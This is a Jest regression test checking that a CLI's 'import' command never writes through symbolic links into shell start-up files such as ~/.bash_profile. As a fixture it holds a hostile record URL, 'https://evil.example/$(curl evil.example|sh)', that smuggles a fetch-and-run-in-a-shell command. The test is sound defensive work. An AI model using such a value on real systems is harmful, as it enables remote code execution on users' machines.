import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from '@jest/globals';
import { MkpEmulator } from '../src/emulator/mkp.js';
import { runCli } from '../dev/harness/processes.js';

/**
 * `import` never writes through a symbolic link (issue 22, finding 7): with
 * `webhooks.yaml -> ~/.bash_profile` (dangling), `import` created the target, and a record URL
 * such as `https://evil.example/$(curl …|sh)` landed in a shell start-up file. Without --force
 * the file is created with an exclusive open; with --force a file written beside it replaces the
 * link itself. The built CLI, against the emulator.
 */
let mkp: MkpEmulator | undefined;
afterEach(async () => {
  await mkp?.close();
  mkp = undefined;
});

/** A record someone else created on the account: a URL that is a command to a shell. */
const HOSTILE_URL = 'https://evil.example/$(curl%20evil.example|sh)';

async function account() {
  mkp = await MkpEmulator.start({
    seed: [
      { type: 'invoice-paid', url: 'https://ok.example.com/hook' },
      { type: 'offer-created', url: HOSTILE_URL },
    ],
  });
  return { MKP_API_TOKEN: mkp.token, MKP_API_URL: mkp.baseUrl };
}

/** A project folder beside a home folder, as on a developer's machine. */
function machine() {
  const root = mkdtempSync(join(tmpdir(), 'mkp-import-'));
  const home = join(root, 'home');
  const project = join(root, 'project');
  mkdirSync(home);
  mkdirSync(project);
  return { home, project, output: join(project, 'webhooks.yaml') };
}

describe('import without --force', () => {
  it('refuses a dangling symbolic link and creates nothing where it points (~/.bash_profile)', async () => {
    const env = await account();
    const { home, project, output } = machine();
    const profile = join(home, '.bash_profile');
    symlinkSync(profile, output);
    const run = await runCli(['import'], { cwd: project, env });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('webhooks.yaml exists (a symbolic link); pass --force to replace');
    expect(existsSync(profile)).toBe(false);
    expect(lstatSync(output).isSymbolicLink()).toBe(true);
    expect(readlinkSync(output)).toBe(profile);
    expect(mkp!.count('list')).toBe(0);
  });

  it('refuses a link to an existing file and leaves that file as it was', async () => {
    const env = await account();
    const { home, project, output } = machine();
    const bashrc = join(home, '.bashrc');
    writeFileSync(bashrc, 'export PATH=$HOME/bin:$PATH\n');
    symlinkSync(bashrc, output);
    const run = await runCli(['import', '--output', 'webhooks.yaml'], { cwd: project, env });
    expect(run.code).toBe(1);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=$HOME/bin:$PATH\n');
  });

  it('creates a new file with the usual mode', async () => {
    const env = await account();
    const { project, output } = machine();
    const run = await runCli(['import'], { cwd: project, env });
    expect(run.code).toBe(0);
    expect(readFileSync(output, 'utf8')).toContain('https://ok.example.com/hook');
    const umask = process.umask();
    expect(statSync(output).mode & 0o777).toBe(0o666 & ~umask);
    expect(readdirSync(project)).toEqual(['webhooks.yaml']);
  });
});

describe('import --force', () => {
  it('replaces a dangling link itself, says so, and creates nothing where it pointed', async () => {
    const env = await account();
    const { home, project, output } = machine();
    const profile = join(home, '.bash_profile');
    symlinkSync(profile, output);
    const run = await runCli(['import', '--force'], { cwd: project, env });
    expect(run.code).toBe(0);
    expect(existsSync(profile)).toBe(false);
    expect(lstatSync(output).isFile()).toBe(true);
    expect(readFileSync(output, 'utf8')).toContain('https://ok.example.com/hook');
    expect(run.stderr).toContain(
      'webhooks.yaml was a symbolic link: replaced the link itself with the file; what it pointed to was not touched',
    );
    expect(readdirSync(project)).toEqual(['webhooks.yaml']);
  });

  it('replaces a link to an existing file without touching that file', async () => {
    const env = await account();
    const { home, project, output } = machine();
    const bashrc = join(home, '.bashrc');
    writeFileSync(bashrc, 'export PATH=$HOME/bin:$PATH\n', { mode: 0o600 });
    symlinkSync(bashrc, output);
    const run = await runCli(['import', '--force'], { cwd: project, env });
    expect(run.code).toBe(0);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=$HOME/bin:$PATH\n');
    expect(readFileSync(bashrc, 'utf8')).not.toContain('evil.example');
    expect(lstatSync(output).isFile()).toBe(true);
    // The link's target lends the new file nothing, not even its mode.
    expect(statSync(output).mode & 0o777).toBe(0o666 & ~process.umask());
  });

  it('replaces a regular file in one step, keeping its mode, and leaves no temporary file', async () => {
    const env = await account();
    const { project, output } = machine();
    writeFileSync(output, '# mine\n', { mode: 0o600 });
    const run = await runCli(['import', '--force'], { cwd: project, env });
    expect(run.code).toBe(0);
    expect(readFileSync(output, 'utf8')).toContain('https://ok.example.com/hook');
    expect(statSync(output).mode & 0o777).toBe(0o600);
    expect(readdirSync(project)).toEqual(['webhooks.yaml']);
    expect(run.stderr).not.toContain('symbolic link');
  });

  it('refuses a directory, and writes nothing', async () => {
    const env = await account();
    const { project, output } = machine();
    mkdirSync(output);
    const run = await runCli(['import', '--force'], { cwd: project, env });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('webhooks.yaml is a directory');
    expect(readdirSync(project)).toEqual(['webhooks.yaml']);
    expect(readdirSync(output)).toEqual([]);
  });
});
